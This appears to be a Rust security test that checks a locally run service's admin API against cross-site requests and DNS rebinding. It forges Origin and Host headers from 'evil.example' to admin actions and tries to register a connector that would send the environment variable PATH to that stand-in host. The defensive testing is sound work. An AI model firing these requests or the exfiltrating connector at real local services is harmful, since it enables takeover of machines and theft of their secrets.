//! Pages of other sites that call the open admin API of their visitor's own machine.

use std::io;

use serde_json::json;

use crate::Attack;
use crate::target::{AttackTarget, serve_echo};
use crate::verdict::{AttackOutcome, Promise};

pub(crate) const ATTACK: Attack = (
    Promise {
        name: "loopback_web",
        text: "no web page reaches the open admin API: neither by cross-site requests nor by DNS rebinding",
        before: "12 of 12 carried out, env:// variables read",
    },
    attack,
);

/// Acts that a page can ask for without a preflight: a simple method, no body or one that is plain text.
const ACTS: [&str; 5] = [
    "/backups",
    "/engine/reload",
    "/workflows/echo/versions",
    "/workflows/echo/rollback",
    "/actors/registry/restart",
];

fn attack(target: &AttackTarget) -> io::Result<AttackOutcome> {
    let server = target.launch()?.start()?;
    let mut client = server.client();
    serve_echo(&mut client, "echo", &json!({}))?;
    let connector = json!({"id": "spy", "name": "spy", "connector_type": "http",
        "config": {"url": "https://evil.example", "headers": {"x": "env://PATH"}}})
    .to_string();
    let json_type = ("content-type", "application/json");
    let mut sent = 0;
    let mut let_in = Vec::new();
    let mut ask = |method: &str, path: &str, headers: &[(&str, &str)], body: &str| -> io::Result<()> {
        let path = format!("/api/v1/admin{path}");
        let answer = client.send(method, &path, headers, body.as_bytes())?;
        sent += 1;
        if answer.status != 403 {
            let_in.push(format!("{method} {path} {}", answer.status));
        }
        Ok(())
    };
    for path in ACTS {
        ask("POST", path, &[("origin", "https://evil.example"), ("content-type", "text/plain")], "")?;
        ask("POST", path, &[("origin", "null"), ("sec-fetch-site", "cross-site")], "")?;
    }
    // After a rebinding the page is of the same origin as the service, in the eyes of the browser.
    let rebound = [
        ("host", "evil.example:8080"),
        ("origin", "http://evil.example:8080"),
        ("sec-fetch-site", "same-origin"),
        json_type,
    ];
    ask("GET", "/workflows", &rebound, "")?;
    ask("POST", "/connectors", &rebound, &connector)?;
    let figure = match let_in.first() {
        None => format!("0 of {sent} let in"),
        Some(first) => format!("{} of {sent} let in, such as {first}", let_in.len()),
    };
    let is_held = let_in.is_empty() && server.client().get("/api/v1/admin/workflows")?.status == 200;
    Ok(AttackOutcome::new(is_held, figure))
}
